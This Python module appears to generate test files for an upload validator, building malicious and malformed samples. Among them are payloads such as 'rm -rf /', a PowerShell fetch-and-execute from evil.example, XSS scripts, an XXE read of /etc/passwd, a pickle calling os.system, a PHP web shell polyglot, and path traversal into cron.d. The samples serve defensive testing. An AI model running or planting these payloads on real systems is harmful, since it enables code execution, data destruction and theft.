"""Files of other kinds, of two kinds at once, pictures, and good ones cut short or turned."""

from __future__ import annotations

import io
import random
import struct
import zlib
from collections.abc import Iterator

from documents_made import archive, docx, hwp, hwpx, pdf_of, picture, workbook
from hostile import CANARY, NOUGHTS, SEED, TAKEN, Hostile, chunk, refused, taken, with_chunk
from PIL import Image


def strange_files() -> Iterator[Hostile]:
    """All of this kind."""
    for family in (_strangers, _heads, _polyglots, _pictures, _cut_and_flipped):
        yield from family()


# Formats that nobody asked for, under names that were.

_HEADS: dict[str, bytes] = {
    "windows programme": b"MZ\x90\x00\x03" + bytes(60),
    "linux programme": b"\x7fELF\x02\x01\x01" + bytes(60),
    "mac programme": b"\xcf\xfa\xed\xfe" + bytes(60),
    "java class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(40),
    "web assembly": b"\x00asm\x01\x00\x00\x00",
    "shell script": b"#!/bin/sh\nrm -rf /\n",
    "batch file": b"@echo off\r\ndel /q *.*\r\n",
    "powershell": b"Invoke-WebRequest http://evil.example | iex",
    "javascript": b"alert(document.cookie)//",
    "visual basic": b'CreateObject("WScript.Shell").Run "calc"',
    "page": b"<html><script>alert(1)</script></html>",
    "page with a mark of order": b"\xef\xbb\xbf<!doctype html><script>alert(1)</script>",
    "page in utf-16": "\ufeff<script>alert(1)</script>".encode("utf-16-le"),
    "page in utf-7": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "application of pages": b"<hta:application id=x><script>new ActiveXObject('WScript.Shell')</script>",
    "drawing with script": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>",
    "drawing that names a file": b"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"
    b"<svg><text>&x;</text></svg>",
    "packed drawing": zlib.compress(b"<svg onload='alert(1)'/>"),
    "stylesheet": b"<?xml-stylesheet href='javascript:alert(1)'?><a/>",
    "mail": b"From: a@example.com\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "web archive": b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x--",
    "shortcut": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60),
    "internet shortcut": b"[InternetShortcut]\r\nURL=file://evil.example/x\r\n",
    "desktop entry": b"[Desktop Entry]\nExec=sh -c evil\n",
    "help file": b"ITSF\x03\x00\x00\x00" + bytes(60),
    "flash": b"CWS\x0a" + bytes(40),
    "rich text": b"{\\rtf1{\\object\\objautlink{\\*\\objdata 0105}}}",
    "postscript": b"%!PS-Adobe-3.0\n(%pipe%id) (r) file\n",
    "form data": b"%FDF-1.2\n1 0 obj<</FDF<</JavaScript<</After(app.alert(1))>>>>>>",
    "gif": b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff;",
    "bitmap": b"BM" + bytes(60),
    "tiff": b"II*\x00\x08\x00\x00\x00" + bytes(40),
    "webp": b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(30),
    "icon": b"\x00\x00\x01\x00\x01\x00" + bytes(40),
    "film": b"\x00\x00\x00\x18ftypmp42" + bytes(40),
    "packed by gzip": b"\x1f\x8b\x08\x00" + bytes(20),
    "packed by bzip2": b"BZh91AY&SY" + bytes(20),
    "packed by xz": b"\xfd7zXZ\x00" + bytes(20),
    "packed by 7-zip": b"7z\xbc\xaf\x27\x1c" + bytes(30),
    "packed by rar": b"Rar!\x1a\x07\x01\x00" + bytes(30),
    "tape": b"../../etc/cron.d/evil".ljust(257, b"\0") + b"ustar" + bytes(250),
    "pickle": b"\x80\x04cos\nsystem\n(S'id'\ntR.",
    "database": b"SQLite format 3\x00" + bytes(84),
    "table with formulas": b"=cmd|'/c calc'!A0,+1,@x\r\n",
    "calendar": b"BEGIN:VCALENDAR\r\nATTACH:file:///etc/passwd\r\nEND:VCALENDAR\r\n",
    "one byte": b"\x00",
    "nothing but spaces": b" \r\n" * 40,
    "nothing but noughts": bytes(4096),
    "a pdf one byte late": b" %PDF-1.7\n",
    "a pdf behind a page": b"<script>alert(1)</script>\n%PDF-1.7\n",
}
_FRIENDLY = ("계획.pdf", "plan.docx", "a.png", "사진.jpg", "계획.hwp", "b.xlsx", "c.hwpx")


def _strangers() -> Iterator[Hostile]:
    for place, (what, content) in enumerate(_HEADS.items()):
        yield refused(what, _FRIENDLY[place % len(_FRIENDLY)], content, "unknown_format")
    yield refused("no byte at all", "empty.pdf", b"", "empty")
    yield refused("a byte too many", "large.pdf", b"%PDF-1.7\n".ljust(20 * 1024 * 1024 + 1, b"\0"), "too_large")


def _heads() -> Iterator[Hostile]:
    """The first bytes of what is taken, and then nothing or nonsense."""
    noise = random.Random(SEED).randbytes(2048)  # noqa: S311 - the same files every time
    magics = (
        b"%PDF-1.7\n",
        b"\x89PNG\r\n\x1a\n",
        b"\xff\xd8\xff\xe0",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"PK\x03\x04",
    )
    for magic in magics:
        for what, tail in (("alone", b""), ("and noughts", bytes(1024)), ("and noise", noise), ("twice", magic)):
            yield refused(f"{magic!r} {what}", "head.pdf", magic + tail, "damaged")


# Files that are two things at once.


def _polyglots() -> Iterator[Hostile]:
    pdf, png, jpeg = pdf_of("계획"), picture(), picture("JPEG")
    script = b"<script>alert('" + CANARY.encode() + b"')</script>"
    packed = archive(**{"evil.class": CANARY})
    yield taken("pdf and page", "p.html", pdf.replace(b"%PDF-1.7\n", b"%PDF-1.7\n%" + script + b"\n", 1) + script)
    yield taken("pdf and zip", "p.zip", pdf + packed)
    yield taken("pdf and jar", "p.jar", pdf + archive(**{"META-INF/MANIFEST.MF": CANARY}))
    yield taken("pdf and programme", "p.exe", pdf + b"MZ" + CANARY.encode())
    yield taken("pdf twice", "p.pdf", pdf + pdf)
    yield taken("png and zip", "p.png", png + packed)
    yield taken("png and page", "p.svg", png + script)
    yield taken("png and php", "p.php", png + b"<?php system($_GET['c']); //" + CANARY.encode())
    yield taken("png with a page in its text", "p.png", with_chunk(png, b"tEXt", b"Comment\0" + script))
    yield taken("png with a page in its profile", "p.png", with_chunk(png, b"zTXt", b"a\0\0" + zlib.compress(script)))
    yield taken("jpeg and zip", "p.jpg", jpeg + packed)
    yield taken("jpeg and script", "p.js", jpeg + b"*/=1;alert('" + CANARY.encode() + b"')")
    comment = b"\xff\xfe" + struct.pack(">H", len(script) + 2) + script
    yield taken("jpeg with a page in its comment", "p.jpg", jpeg[:2] + comment + jpeg[2:])
    yield refused("gif and zip", "p.gif", _HEADS["gif"] + packed, "unknown_format")
    yield refused("gif and script", "p.gif", b"GIF89a/*\x00\x00*/=alert(1)", "unknown_format")
    yield refused("page before zip", "p.docx", script + docx("x"), "unknown_format")
    yield refused("programme before zip", "p.docx", b"MZ" + bytes(62) + docx("x"), "unknown_format")
    yield refused("zip that holds a pdf", "p.pdf", archive(**{"a.pdf": pdf}), "unknown_format")
    yield refused("docx and hwpx", "p.docx", docx("x", mimetype="application/hwp+zip"), "damaged")
    yield taken("hwp and zip", "p.hwp", hwp("계획") + packed)
    yield taken("docx and pdf", "p.pdf", _zip_comment(docx("x"), b"%PDF-1.7 " + script))


def _zip_comment(packed: bytes, comment: bytes) -> bytes:
    return packed[:-2] + struct.pack("<H", len(comment)) + comment


# Pictures.


def _png(width: int, height: int, body: bytes = b"", **more: int) -> bytes:
    depth, colour = more.get("depth", 8), more.get("colour", 2)
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(body or bytes(1000)))
        + chunk(b"IEND", b"")
    )


def _pictures() -> Iterator[Hostile]:
    for width, height in ((40_000, 40_000), (2**31 - 1, 1), (1, 2**31 - 1), (65_535, 65_535), (2**31 - 1, 2**31 - 1)):
        yield refused(f"png of {width} by {height}", "a.png", _png(width, height), "too_large_picture")
    for width, height in ((0, 0), (0, 10), (10, 0), (2**32 - 1, 2**32 - 1)):
        yield refused(f"png of {width} by {height}", "a.png", _png(width, height), "damaged", "too_large_picture")
    yield refused("png of a depth that is none", "a.png", _png(10, 10, depth=77), "damaged")
    yield refused("png of a colour that is none", "a.png", _png(10, 10, colour=9), "damaged")
    yield refused("png with too little in it", "a.png", _png(3000, 3000), "damaged")
    png, jpeg = picture(), picture("JPEG")
    packed = NOUGHTS
    yield refused(
        "png with a text that unpacks to 300 MB", "a.png", with_chunk(png, b"zTXt", b"a\0\0" + packed), "damaged"
    )
    yield refused(
        "png with a long text that unpacks to 300 MB",
        "a.png",
        with_chunk(png, b"iTXt", b"a\0\1\0\0\0" + packed),
        "damaged",
    )
    yield refused(
        "png with a profile that unpacks to 300 MB",
        "a.png",
        with_chunk(png, b"iCCP", b"a\0\0" + packed),
        TAKEN,
        "damaged",
    )
    yield refused("png with a chunk of 2 GB", "a.png", png[:33] + struct.pack(">I", 2**31 - 1) + b"tEXtx", "damaged")
    yield refused("png with a wrong sum", "a.png", png[:29] + bytes(4) + png[33:], "damaged")
    yield refused(
        "png in a hundred moving pictures",
        "a.png",
        with_chunk(png, b"acTL", struct.pack(">II", 2**31 - 1, 0)),
        TAKEN,
        "damaged",
    )
    for side in (65_500, 30_000):
        place = jpeg.find(b"\xff\xc0")
        large = jpeg[: place + 5] + struct.pack(">HH", side, side) + jpeg[place + 9 :]
        yield refused(f"jpeg of {side} by {side}", "a.jpg", large, "too_large_picture")
    place = jpeg.find(b"\xff\xc0")
    none = jpeg[: place + 5] + struct.pack(">HH", 0, 0) + jpeg[place + 9 :]
    yield refused("jpeg of no size", "a.jpg", none, "damaged")
    for what, value in (
        ("script", "<script>alert(1)</script>"),
        ("php", "<?php system('id')"),
        ("place", "37.5N 127E"),
    ):
        yield taken(f"jpeg whose exif has a {what}", "a.jpg", _exif("JPEG", f"{value} {CANARY}"))
        yield taken(f"png whose exif has a {what}", "a.png", _exif("PNG", f"{value} {CANARY}"))
    yield taken("jpeg with an orientation that is none", "a.jpg", _exif("JPEG", CANARY, orientation=77))
    broken = b"\xff\xe1" + struct.pack(">H", 40) + b"Exif\0\0II*\0\xff\xff\xff\xff".ljust(38, b"\xff")
    yield taken("jpeg whose exif points nowhere", "a.jpg", jpeg[:2] + broken + jpeg[2:])
    yield refused(
        "jpeg with a segment of no length", "a.jpg", jpeg[:2] + b"\xff\xe1\x00\x00" + jpeg[2:], TAKEN, "damaged"
    )
    yield refused("jpeg of markers alone", "a.jpg", b"\xff\xd8" + b"\xff\xd8\xff" * 100_000, "damaged")
    yield taken("jpeg of a thousand comments", "a.jpg", jpeg[:2] + b"\xff\xfe\x00\x40" * 1 + bytes(62) + jpeg[2:])


def _exif(kind: str, text: str, orientation: int = 1) -> bytes:
    out = io.BytesIO()
    exif = Image.Exif()
    exif[0x010E], exif[0x0112] = text, orientation
    Image.new("RGB", (20, 20), "teal").save(out, kind, exif=exif)
    return out.getvalue()


_ANY = (TAKEN, "damaged", "unknown_format", "bomb", "locked", "too_large_picture", "unreadable", "embedded", "macro")
"""A damaged file may happen to be readable: what matters is that it ends in an answer."""

# Good files cut short or with bytes turned.


def _cut_and_flipped() -> Iterator[Hostile]:
    chance = random.Random(SEED)  # noqa: S311 - the same files every time
    wholes = {
        "pdf": pdf_of("계획"),
        "png": picture(size=(200, 150)),
        "jpg": picture("JPEG", (200, 150)),
        "docx": docx("계획"),
        "xlsx": workbook("계획"),
        "hwpx": hwpx("계획"),
        "hwp": hwp("계획"),
    }
    for suffix, whole in wholes.items():
        for tenth in (2, 5, 9):
            yield Hostile(f"{suffix} cut at {tenth} tenths", f"a.{suffix}", whole[: len(whole) * tenth // 10], _ANY)
        for _ in range(3):
            turned = bytearray(whole)
            for place in chance.sample(range(8, len(whole)), 24):
                turned[place] ^= chance.randrange(1, 256)
            yield Hostile(f"{suffix} with bytes turned", f"a.{suffix}", bytes(turned), _ANY)
